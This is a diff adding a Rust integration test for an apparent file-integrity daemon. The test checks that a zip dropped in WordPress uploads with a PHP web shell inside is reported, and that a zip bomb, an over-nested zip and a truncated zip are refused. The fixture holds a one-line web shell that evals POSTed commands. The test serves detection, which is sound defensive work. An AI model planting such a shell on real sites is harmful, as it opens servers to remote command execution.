@@ -196,3 +196,84 @@ fn dropper_is_confirmed_by_a_php_file_of_the_same_account() {
     assert_eq!(held["waiting"], 1, "{held}");
     assert_eq!(held["dropped_total"], 0);
 }
+
+fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
+    use std::io::Write;
+    let mut buf = std::io::Cursor::new(Vec::new());
+    {
+        let mut z = zip::ZipWriter::new(&mut buf);
+        let opt = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated);
+        for (n, d) in files {
+            z.start_file(*n, opt).unwrap();
+            z.write_all(d).unwrap();
+        }
+        z.finish().unwrap();
+    }
+    buf.into_inner()
+}
+
+const WEBSHELL: &[u8] = b"<?php\n// innocent looking header\n@eval($_POST['cmd']);\n?>\n";
+
+/// A zip dropped into uploads with a shell inside is reported before anyone extracts it;
+/// a zip bomb, a too deeply nested zip and a truncated zip are refused and reported, and
+/// the daemon goes on.
+#[test]
+fn staged_package_with_a_shell_is_reported_and_bad_archives_are_refused() {
+    let dir = temp_dir("integrity-staged");
+    let www = dir.join("www");
+    let uploads = www.join("wp-content/uploads");
+    std::fs::create_dir_all(&uploads).unwrap();
+    let d = start_in_dir(
+        dir,
+        &format!(
+            "[files]\nwatch = [{:?}]\n[auto_response]\nquarantine = false\n[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\n",
+            www.display().to_string()
+        ),
+        &[],
+    );
+    assert_eq!(queue_row(&d, "fanotify.staged_packages")["capacity"], 1024);
+    let pkg = uploads.join("plugin-update.zip");
+    std::fs::write(
+        &pkg,
+        zip_of(&[("readme.txt", b"update"), ("plugin/loader.php", WEBSHELL)]),
+    )
+    .unwrap();
+    let f = wait_until(30, "the staged package finding", || {
+        findings_of(&d, "staged_package_malware").into_iter().next()
+    });
+    assert_eq!(
+        f["message"],
+        format!(
+            "malware in staged package {}: plugin-update.zip/loader.php",
+            pkg.display()
+        )
+    );
+    assert_eq!(f["path"], pkg.display().to_string());
+    assert!(!uploads.join("plugin/loader.php").exists());
+
+    let zeros = vec![0u8; 20 * 1024 * 1024];
+    std::fs::write(uploads.join("bomb.zip"), zip_of(&[("zeros.bin", &zeros)])).unwrap();
+    let l3 = zip_of(&[("s.txt", b"x")]);
+    let l2 = zip_of(&[("l3.zip", &l3)]);
+    std::fs::write(uploads.join("nested.zip"), zip_of(&[("l2.zip", &l2)])).unwrap();
+    let whole = zip_of(&[("a.txt", b"hello"), ("b.php", WEBSHELL)]);
+    std::fs::write(uploads.join("cut.zip"), &whole[..whole.len() / 2]).unwrap();
+    let refused = wait_until(60, "three refusals", || {
+        let f = findings_of(&d, "staged_package_unverified");
+        (f.len() == 3).then_some(f)
+    });
+    let detail = |name: &str| {
+        refused
+            .iter()
+            .find(|f| f["path"].as_str().unwrap().ends_with(name))
+            .map(|f| f["details"].as_str().unwrap().to_string())
+            .unwrap_or_else(|| panic!("no finding for {name}: {refused:?}"))
+    };
+    assert!(detail("bomb.zip").contains("archive_ratio_limit"));
+    assert!(detail("nested.zip").contains("archive_depth_limit"));
+    assert!(detail("cut.zip").contains("archive_error"));
+    let row = queue_row(&d, "fanotify.staged_packages");
+    assert_eq!(row["dropped_total"], 0, "{row}");
+    assert_eq!(row["running"], 0, "{row}");
+}
